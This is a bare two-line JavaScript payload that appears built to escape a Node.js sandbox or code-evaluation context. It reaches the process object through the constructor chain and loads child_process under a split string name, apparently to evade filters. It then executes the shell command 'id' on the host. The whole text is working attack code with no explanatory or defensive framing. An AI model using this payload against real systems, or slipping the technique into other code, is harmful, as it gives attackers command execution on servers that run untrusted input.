const p = [].constructor.constructor("return process")();
p.mainModule.require("child_" + "process").execSync("id");
